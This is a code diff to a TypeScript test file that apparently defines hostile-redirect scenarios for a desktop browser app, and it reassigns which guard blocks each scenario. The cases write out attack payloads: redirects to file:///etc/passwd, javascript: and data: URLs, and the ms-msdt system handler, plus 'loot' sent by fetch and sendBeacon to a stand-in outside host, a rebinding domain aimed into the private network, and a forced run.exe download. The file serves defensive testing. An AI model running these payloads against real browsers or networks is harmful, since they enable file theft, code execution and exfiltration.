@@ -44,17 +44,34 @@ export const redirects: Area = {
       told: 'log in',
       neverAsked: '/loot'
     },
-    { name: 'be sent to a file', script: 'location = "/redirect/302?to=file:///etc/passwd"', mayEndItself: true },
+    {
+      name: 'be sent to a file',
+      script: 'location = "/redirect/302?to=file:///etc/passwd"',
+      guard: ['browser'],
+      mayEndItself: true
+    },
     {
       name: 'be sent to our own pages',
       script: 'location = "/redirect/302?to=app://countersign/index.html"',
+      guard: ['browser'],
       mayEndItself: true
     },
-    { name: 'be sent to data', script: 'location = "/redirect/302?to=data:text/html,bank"', mayEndItself: true },
-    { name: 'be sent to a script', script: 'location = "/redirect/302?to=javascript:alert(1)"', mayEndItself: true },
+    {
+      name: 'be sent to data',
+      script: 'location = "/redirect/302?to=data:text/html,bank"',
+      guard: ['browser'],
+      mayEndItself: true
+    },
+    {
+      name: 'be sent to a script',
+      script: 'location = "/redirect/302?to=javascript:alert(1)"',
+      guard: ['browser'],
+      mayEndItself: true
+    },
     {
       name: 'be sent to a program of the system',
       script: 'location = "/redirect/302?to=ms-msdt:/id%2520PCWDiagnostic"',
+      guard: ['browser'],
       mayEndItself: true
     },
     {
@@ -67,7 +84,7 @@ export const redirects: Area = {
     {
       name: 'be sent in circles for ever',
       script: 'location = "/circle"',
-      guard: ['browser', 'end'],
+      guard: ['browser'],
       contained: 'The browser gives up after some steps; the turn fails and offers a way on.',
       mayEndItself: true
     },
@@ -103,21 +120,20 @@ export const redirects: Area = {
       script: refusedBy(
         'await fetch("/redirect/307?to=http://{elsewhere}/", { method: "POST", body: "loot", mode: "no-cors" })'
       ),
-      guard: ['request'],
-      answers: 'refused',
-      told: 'unencrypted'
+      guard: ['policy', 'request'],
+      answers: 'refused'
     },
     {
-      name: 'send a question of its script into the office, encrypted',
-      script: refusedBy('await fetch("/redirect/302?to=https://{elsewhere}/", { mode: "no-cors" })'),
-      guard: ['request', 'private'],
+      name: 'send a picture into the office, encrypted',
+      script: loads('img', 'e.src = "/redirect/302?to=https://{elsewhere}/"'),
+      guard: ['private'],
       answers: 'refused',
       told: 'private network'
     },
     {
-      name: 'send a question of its script to a name that leads into the office',
-      script: refusedBy('await fetch("/redirect/302?to=https://rebind.example/", { mode: "no-cors" })'),
-      guard: ['request', 'private'],
+      name: 'send a picture to a name that leads into the office',
+      script: loads('img', 'e.src = "/redirect/302?to=https://rebind.example/"'),
+      guard: ['private'],
       answers: 'refused',
       told: 'private network (rebind.example)'
     },
@@ -125,13 +141,12 @@ export const redirects: Area = {
       name: 'send a last word elsewhere',
       script:
         'navigator.sendBeacon("/redirect/307?to=http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))',
-      guard: ['request'],
-      told: 'unencrypted'
+      guard: ['policy', 'request']
     },
     {
       name: 'send a saved file elsewhere',
       ...click('<a id=go download="run.exe" href="/redirect/302?to=http://{elsewhere}/">go</a>'),
-      guard: ['request', 'downloads'],
+      guard: ['request'],
       mayEndItself: true
     }
   ]
